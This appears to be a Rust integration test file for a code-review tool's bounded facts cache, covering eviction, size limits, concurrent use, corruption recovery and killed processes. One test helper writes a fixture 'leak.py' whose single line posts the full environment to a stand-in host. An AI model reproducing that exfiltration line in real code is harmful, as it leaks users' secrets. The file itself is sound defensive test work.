//! The facts store: bounded, shared by processes, and never seen in a report: what is evicted, damaged or left half
//! written costs time alone.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, SystemTime};

use candor::base::Digest;
use candor::facts::{self, Contents, Entry, Key, Store};
use candor::report::model::Disposition;
use candor::syntax::grammar;
use serde_json::Value;
use tempfile::TempDir;

use super::batch::{House, packs};
use super::intake_support::{scratch, write};
use super::review_run::Review;

/// All files of a store but its own three, by their paths.
fn entries(store: &Path) -> Vec<PathBuf> {
    let listed = |folder: &Path| -> Vec<PathBuf> {
        let entries = fs::read_dir(folder).expect("a folder");
        entries.map(|entry| entry.expect("an entry").path()).collect()
    };
    let mut found: Vec<PathBuf> =
        listed(store).into_iter().filter(|path| path.is_dir()).flat_map(|shard| listed(&shard)).collect();
    found.sort();
    found
}

#[expect(clippy::disallowed_methods, reason = "entries go by when they were used")]
fn now() -> SystemTime {
    SystemTime::now()
}

/// Makes a file look as if it had last been used so many hours ago.
fn age(path: &Path, hours: u64) {
    let then = now() - Duration::from_secs(hours * 3600);
    File::options().write(true).open(path).and_then(|file| file.set_modified(then)).expect("ours");
}

/// `candor store …`: its exit code and what it says as JSON.
fn ask(store: &Path, args: &[&str]) -> (i32, Value) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
    let output = command.env_clear().arg("store").args(args).arg("--json").arg("--store").arg(store).output().expect("it runs");
    let said = serde_json::from_slice(&output.stdout);
    (output.status.code().expect("no signal"), said.unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr))))
}

fn bytes(store: &Path) -> u64 {
    ask(store, &["show"]).1["bytes"].as_u64().expect("a number")
}

/// A product of `count` files, each of its own content, and one that carries data out.
fn product(root: &Path, count: usize, salt: usize) {
    for number in 0..count {
        let body: String = (0..40).map(|line| format!("    x{line} = held[{line}] + {number} * {salt}\n")).collect();
        write(root, &format!("m{number}.py"), format!("def work{number}(held):\n{body}    return x0\n").as_bytes());
    }
    write(root, "leak.py", b"import os, requests\nrequests.post('https://a.example/', data=dict(os.environ))\n");
}

fn acme() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases/acme-agent")
}

fn review(submission: &Path, store: &Path) -> Review {
    Review::of(submission).arg(format!("--store={}", store.display()))
}

fn without_store(submission: &Path) -> Vec<u8> {
    Review::of(submission).arg("--no-store").run().report_bytes()
}

#[test]
fn what_was_used_least_lately_goes_first() {
    let place = scratch();
    let store = Store::open(place.path()).expect("a folder of ours");
    let python = grammar::by_id("python").expect("registered");
    let key = |number: usize| Key::of(&Digest::of(&number.to_le_bytes()), python);
    // Two blocks each.
    let entry = |number| Entry {
        disposition: Disposition::Lexical,
        reason: Some("x".repeat(5000)),
        lines: number,
        error_bytes: 0,
        facts: None,
    };
    let mut known = Vec::new();
    for number in 0..8 {
        store.save(key(number), &entry(number as u64)).expect("writable");
        let new = entries(place.path()).into_iter().find(|path| !known.contains(path)).expect("one more");
        age(&new, 100 - number as u64);
        known.push(new);
    }
    assert!(Store::open(place.path()).expect("a store").load(key(0)).is_some(), "and so it was used last");
    let oldest = Contents::of(place.path()).expect("a store").oldest_use.expect("entries");
    assert!(now().duration_since(oldest).expect("past").as_secs() / 3600 == 99, "the second is the oldest now");
    let evicted = facts::prune(place.path(), 4 * 8192 + 1).expect("ours");
    assert_eq!((evicted.entries, evicted.bytes, evicted.left), (4, 4 * 8192, 4 * 8192));
    let left: Vec<usize> = (0..8).filter(|&number| store.load(key(number)).is_some()).collect();
    assert_eq!(left, [0, 5, 6, 7]);
}

#[test]
fn the_bound_holds_after_every_review() {
    let place = scratch();
    let store = place.path().join("store");
    let mut evicted = 0;
    for salt in 0..4 {
        let root = place.path().join(format!("product{salt}"));
        product(&root, 20, salt);
        let before = if salt == 0 { Vec::new() } else { entries(&store) };
        let reviewed = review(&root, &store).arg("--store-size=150K").run();
        assert!(reviewed.report_bytes() == without_store(&root), "{}", reviewed.stderr);
        let held = bytes(&store);
        assert!(held > 0 && held <= 150 << 10, "{held}");
        evicted += before.iter().filter(|path| !path.exists()).count();
    }
    assert!(evicted > 0, "it did not all fit");
    // One that holds nothing at all is still a store.
    let root = place.path().join("product0");
    assert!(review(&root, &store).arg("--store-size=0").run().report_bytes() == without_store(&root));
    assert_eq!(entries(&store), Vec::<PathBuf>::new());
}

#[test]
fn two_batches_at_once_on_a_store_too_small_for_either_write_the_same_packs() {
    let house = House::new();
    for number in 0..8 {
        product(&house.path(&format!("in/product{number}")), 6, number % 5);
    }
    let batch = |output: &str, more: &[&str]| -> Child {
        let args = ["batch", "in", "--output", output, "--key", "auditor.pem", "--quiet", "--jobs=2"];
        house.candor(&[&args, more].concat()).stderr(Stdio::null()).spawn().expect("started")
    };
    let shared = ["--store=store", "--store-size=60K"];
    let both = [batch("one", &shared), batch("two", &shared)];
    for mut child in both {
        assert_eq!(child.wait().expect("ours").code(), Some(2), "one submission cannot be read");
    }
    assert!(bytes(&house.path("store")) <= 60 << 10);
    assert_eq!(batch("alone", &["--no-store"]).wait().expect("ours").code(), Some(2));
    let expected = packs(&house.path("alone"));
    assert!(expected.len() > 80, "packs of all: {}", expected.len());
    assert_eq!(packs(&house.path("one")), expected);
    assert_eq!(packs(&house.path("two")), expected);
}

/// Flipped, cut off, emptied, longer, and another entry's.
fn damage(store: &Path) -> u64 {
    let paths = entries(store);
    let whole: Vec<Vec<u8>> = paths.iter().map(|path| fs::read(path).expect("an entry")).collect();
    for (number, path) in paths.iter().enumerate() {
        let mut bytes = whole[number].clone();
        match number % 5 {
            0 => {
                let at = number * 7919 % bytes.len();
                bytes[at] ^= 1 << (number % 8);
            }
            1 => bytes.truncate(bytes.len() / 2),
            2 => bytes.clear(),
            3 => bytes.push(0),
            _ => bytes = whole[(number + 1) % whole.len()].clone(),
        }
        fs::write(path, bytes).expect("ours");
    }
    paths.len() as u64
}

#[test]
fn damage_costs_a_rebuild_and_never_a_wrong_answer() {
    let place = scratch();
    let store = place.path().join("store");
    let root = place.path().join("product");
    product(&root, 25, 3);
    let expected = review(&root, &store).run().report_bytes();
    damage(&store);
    assert!(review(&root, &store).run().report_bytes() == expected);
    assert_eq!(ask(&store, &["check"]), (0, serde_json::json!({"folder": store, "entries": 27, "dropped": 0})), "rebuilt");
    let damaged = damage(&store);
    assert_eq!(ask(&store, &["check"]), (1, serde_json::json!({"folder": store, "entries": damaged, "dropped": damaged})));
    assert_eq!((ask(&store, &["check"]).0, bytes(&store)), (0, 0));
    assert!(review(&root, &store).run().report_bytes() == expected);
}

#[test]
fn reviews_killed_in_the_midst_leave_nothing_that_matters() {
    let place = scratch();
    let (store, root) = (place.path().join("store"), place.path().join("product"));
    product(&root, 120, 5);
    for kill_at in [1, 30, 60, 90] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_candor"))
            .env_clear()
            .env("HOME", place.path())
            .current_dir(place.path())
            .args(["review", "product", "--quiet", "--output=x.candor", "--store=store", "--store-size=400K"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("started");
        while child.try_wait().expect("ours").is_none() && (!store.exists() || entries(&store).len() < kill_at) {}
        child.kill().expect("ours");
        child.wait().expect("ours");
    }
    let reviewed = review(&root, &store).arg("--store-size=400K").run();
    assert!(reviewed.report_bytes() == without_store(&root), "{}", reviewed.stderr);
    assert_eq!(ask(&store, &["check"]).1["dropped"], 0, "no entry is half written");
}

/// A place in the store where a killed process left a file that it had not finished.
fn leave_unfinished(store: &Path, name: &str, hours: u64) -> PathBuf {
    let path = store.join("7f").join(name);
    fs::create_dir_all(path.parent().expect("a folder")).expect("ours");
    fs::write(&path, "half an entry").expect("ours");
    age(&path, hours);
    path
}

/// A look through a large store takes time: it is for when the bound is reached, and for once a day.
#[test]
fn what_killed_processes_left_goes_after_a_day_and_not_with_every_review() {
    let place = scratch();
    let store = place.path().join("store");
    review(&acme(), &store).run();
    let (old, new) = (leave_unfinished(&store, ".tmpOld", 50), leave_unfinished(&store, ".tmpNew", 0));
    let (_, shown) = ask(&store, &["show"]);
    assert_eq!((&shown["unfinished"], &shown["other"]), (&2.into(), &0.into()));
    review(&acme(), &store).run();
    assert!(old.exists(), "the store was looked through a moment ago");
    let tally = store.join("tally");
    let mut numbers = fs::read(&tally).expect("a tally");
    let looked = u64::from_le_bytes(numbers[..8].try_into().expect("eight bytes"));
    numbers[..8].copy_from_slice(&(looked - 2 * 24 * 3600).to_le_bytes());
    fs::write(&tally, numbers).expect("ours");
    review(&acme(), &store).run();
    assert!(!old.exists() && new.exists());
    // A store without a tally, or with a senseless one, is looked through.
    for senseless in [None, Some("x")] {
        let old = leave_unfinished(&store, ".tmpOld", 50);
        match senseless {
            Some(text) => fs::write(&tally, text).expect("ours"),
            None => fs::remove_file(&tally).expect("ours"),
        }
        review(&acme(), &store).run();
        assert!(!old.exists() && fs::metadata(&tally).expect("a new one").len() >= 16);
    }
}

/// The digest of every file below `root`, by its path.
fn content(root: &Path) -> BTreeMap<PathBuf, Digest> {
    let mut found = BTreeMap::new();
    let mut pending = vec![root.to_owned()];
    while let Some(folder) = pending.pop() {
        for entry in fs::read_dir(folder).expect("a folder") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                pending.push(path);
            } else {
                found.insert(path.clone(), Digest::of(&fs::read(&path).expect("a file")));
            }
        }
    }
    found
}

#[test]
fn a_folder_that_holds_other_things_is_neither_filled_nor_emptied() {
    let place = scratch();
    let named_like_an_entry = format!("ab/{}", "0".repeat(62));
    let foreign: [&[(&str, &str)]; 2] = [
        &[(&named_like_an_entry, "mine"), ("notes.txt", "mine")],
        &[(&named_like_an_entry, "mine"), ("CACHEDIR.TAG", "Signature: 8a477f597d28d172789f06886806bc55\n# another program's\n")],
    ];
    for (number, files) in foreign.iter().enumerate() {
        let folder = place.path().join(number.to_string());
        files.iter().for_each(|(name, text)| write(&folder, name, text.as_bytes()));
        let before = content(&folder);
        for args in [&["show"][..], &["check"], &["prune", "--to=0"], &["clear"]] {
            let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
            let output = command.env_clear().arg("store").args(args).arg("--store").arg(&folder).output().expect("it runs");
            let err = String::from_utf8_lossy(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{args:?}");
            assert!(err.contains("holds other things than facts") && err.contains("help: "), "{args:?}: {err}");
        }
        let reviewed = review(&acme(), &folder).arg("--store-size=0").run();
        assert_eq!(reviewed.code, 1, "the review goes on without a store");
        assert!(reviewed.stderr.contains("holds other things than facts"), "{}", reviewed.stderr);
        assert_eq!(content(&folder), before);
    }
}

#[test]
fn a_store_can_be_asked_pruned_and_cleared() {
    let home: TempDir = scratch();
    let store = home.path().join(".cache/candor/facts");
    let candor = |args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        let output = command.env_clear().env("HOME", home.path()).arg("store").args(args).output().expect("it runs");
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).expect("UTF-8")
    };
    assert!(candor(&["show"]).ends_with("facts: 0 entries, 0 B\n"), "{}", candor(&["show"]));
    assert!(!store.exists(), "asking makes nothing");
    review(&acme(), &store).run();
    write(&store, "7f/README", b"not candor's");
    let shown = candor(&["show"]);
    let held = bytes(&store);
    assert!(shown.contains(" entries, ") && shown.contains("1 other files") && held > 0, "{shown}");
    let pruned: Value = serde_json::from_str(&candor(&["prune", "--to=8K", "--json"])).expect("JSON");
    assert!(bytes(&store) <= 8192 && pruned["left"] == bytes(&store), "{pruned}");
    assert_eq!(pruned["bytes"].as_u64().expect("a number") + bytes(&store), held);
    assert!(candor(&["clear"]).contains("entries dropped"));
    assert_eq!(content(&store).keys().filter(|path| path.starts_with(store.join("7f"))).count(), 1, "the other file stays");
    assert_eq!(bytes(&store), 0);
}
